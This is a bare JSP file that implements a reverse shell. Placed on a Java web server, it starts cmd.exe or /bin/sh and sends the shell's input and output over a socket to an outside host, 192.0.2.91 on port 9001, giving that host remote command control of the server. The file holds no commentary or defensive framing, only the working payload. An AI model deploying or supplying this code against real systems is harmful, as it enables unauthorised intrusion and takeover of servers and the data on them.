<%@ page import="java.io.*,java.net.*" %>
<%
  String host = "192.0.2.91"; int port = 9001;
  String sh = System.getProperty("os.name").toLowerCase().contains("win") ? "cmd.exe" : "/bin/sh";
  Process p = new ProcessBuilder(sh).redirectErrorStream(true).start();
  Socket s = new Socket(host, port);
  InputStream pi = p.getInputStream(), si = s.getInputStream();
  OutputStream po = p.getOutputStream(), so = s.getOutputStream();
  while (!s.isClosed()) {
    while (pi.available() > 0) so.write(pi.read());
    while (si.available() > 0) po.write(si.read());
    so.flush(); po.flush();
    Thread.sleep(50);
    try { p.exitValue(); break; } catch (Exception e) {}
  }
  out.println("OK");
%>
